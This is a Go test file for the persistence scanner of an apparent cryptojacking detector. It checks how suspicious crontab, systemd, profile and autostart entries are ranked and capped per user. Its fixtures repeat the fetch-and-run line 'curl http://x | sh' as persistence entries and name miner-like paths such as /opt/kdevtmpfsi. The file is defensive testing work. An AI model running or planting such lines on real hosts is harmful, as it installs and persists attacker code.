package persistence

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
	"github.com/cryptojack-exporter/cryptojack_exporter/internal/persistence/shell"
)

// TestUsersFloodNobodyElse lets a user fill what he may write. Root's one entry, the
// weakest that there is, comes before all of his, and what he has too much is counted.
func TestUsersFloodNobodyElse(t *testing.T) {
	t.Parallel()
	crontab := strings.Repeat("* * * * * curl http://x | sh\n", 8000)
	for name, fill := range map[string]func(f *fixture){
		"a crontab": func(f *fixture) { f.write("/var/spool/cron/crontabs/eve", crontab) },
		"units": func(f *fixture) {
			for i := range 600 {
				f.write(fmt.Sprintf("/home/eve/.config/systemd/user/%d.service", i), "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n")
			}
		},
		"profiles": func(f *fixture) {
			for _, name := range []string{".bashrc", ".profile", ".zshrc", ".bash_login", ".xprofile"} {
				f.write("/home/eve/"+name, strings.Repeat("curl http://x | sh\n", 1000))
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			fill(f)
			f.write("/etc/systemd/system/z.service", "[Service]\nExecStart=/opt/kdevtmpfsi\n")
			f.write("/root/.bashrc", "/usr/bin/.x\n")
			f.write("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\neve:x:1000:1000::/home/eve:/bin/bash\nmax:x:1001:1001::/home/max:/bin/sh\n")
			f.write("/home/max/.bashrc", "/tmp/x\n")
			s := f.sample()
			for range 10 { // a slow machine leaves some to the next sample
				s = f.sample()
			}
			bad := suspicious(s)
			if len(bad) < 3 || bad[0].Path != "/root/.bashrc" || bad[1].Path != "/etc/systemd/system/z.service" {
				t.Fatalf("%d entries, first %+v", len(bad), bad[:min(len(bad), 2)])
			}
			listed, omitted := 0, 0
			for i := range bad {
				if bad[i].Owner == "eve" {
					listed++
				}
			}
			for file, n := range s.Omitted {
				if file.Owner != "eve" || n <= 0 {
					t.Errorf("%+v: %d", file, n)
				}
				omitted += n
			}
			if listed == 0 || listed > maxPublishedUser || omitted == 0 {
				t.Errorf("%d listed, %d counted", listed, omitted)
			}
			if !slices.ContainsFunc(bad, func(e model.PersistenceEntry) bool { return e.Owner == "max" }) {
				t.Error("another user's entry was pushed out")
			}
		})
	}
}

// TestUsersFillNoMemoryOfRoot lets two users have more texts than are remembered.
func TestUsersFillNoMemoryOfRoot(t *testing.T) {
	t.Parallel()
	s := New(Options{Root: t.TempDir()})
	long := strings.Repeat("x", shell.MaxCommandBytes)
	record := func(owner, path, reason string, entries int) *record {
		known := &record{owner: owner}
		for i := range entries {
			known.entries = append(known.entries, model.PersistenceEntry{Path: path, Line: i, Command: long, Owner: owner, Reason: model.PersistenceReason(reason)})
		}
		known.suspicious = entries
		s.remember(known)
		return known
	}
	kept := map[string]int{}
	for file := range 2000 {
		for _, user := range []string{"a", "b"} {
			kept[user] += len(record(user, fmt.Sprintf("/home/%s/%d", user, file), "temp_path", 100).entries)
		}
	}
	for _, user := range []string{"a", "b"} {
		if bytes := kept[user] * (256 + len(long)); bytes > maxUserBytes || bytes < maxUserBytes*9/10 {
			t.Errorf("%d bytes of user %s", bytes, user)
		}
	}
	root := record("", "/etc/crontab", "temp_path", 1000)
	if len(root.entries) != 1000 || root.partial {
		t.Errorf("%d of root's entries", len(root.entries))
	}
}

// TestWhatAFileMayKeep: lines without a program, which no suspect is found by, make
// room for one that names a program.
func TestWhatAFileMayKeep(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.write("/var/spool/cron/crontabs/eve", strings.Repeat("* * * * * curl x | sh\n", 2*maxFileEntries)+"* * * * * /tmp/x\n")
	s := f.sample()
	if !slices.ContainsFunc(s.Entries, func(e model.PersistenceEntry) bool { return slices.Contains(e.Programs, "/tmp/x") }) {
		t.Error("the line that names a program is lost")
	}
	if got, want := s.Omitted[model.PersistenceFile{Owner: "eve", Path: "/var/spool/cron/crontabs/eve"}], 2*maxFileEntries+1-len(suspicious(s)); got != want {
		t.Errorf("%d left out, want %d", got, want)
	}
}

// TestManyFilesOfOneUser: a directory that users fill shows root's first, then some of
// each user.
func TestManyFilesOfOneUser(t *testing.T) {
	t.Parallel()
	l := listing{}
	for i := range 3 * maxLocationFiles {
		l.files = append(l.files, statEntry{path: fmt.Sprintf("a%06d", i), uid: 1000})
	}
	l.files = append(l.files, statEntry{path: "b", uid: 1001}, statEntry{path: "c", uid: 0})
	l.choose()
	if len(l.files) != maxLocationFiles || l.files[0].path != "c" || !slices.ContainsFunc(l.files, func(s statEntry) bool { return s.path == "b" }) || !l.truncated {
		t.Errorf("%d files, first %+v", len(l.files), l.files[0])
	}
}

// TestManyFilesInOneHome leaves the other homes what they have.
func TestManyFilesInOneHome(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.write("/etc/passwd", "eve:x:1000:1000::/home/eve:/bin/bash\nmax:x:1001:1001::/home/max:/bin/sh\nroot:x:0:0:root:/root:/bin/bash\n")
	f.write("/home/eve/.config/systemd/user/0.service", "[Service]\nExecStart=/tmp/x\n")
	for i := range 2 * maxHomeFiles {
		f.must(os.Link(f.path("/home/eve/.config/systemd/user/0.service"), f.path(fmt.Sprintf("/home/eve/.config/systemd/user/x%d.service", i))))
	}
	f.write("/home/max/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/y\n")
	f.write("/root/.bashrc", "/tmp/z\n")
	s := f.sample()
	owners := map[string]bool{}
	for _, e := range suspicious(s) {
		owners[e.Owner] = true
	}
	if !owners["max"] || !owners[""] || !owners["eve"] {
		t.Errorf("owners %v", owners)
	}
	if got := share(s); got.Readable >= got.Total {
		t.Errorf("share %+v although not all was looked at", got)
	}
}
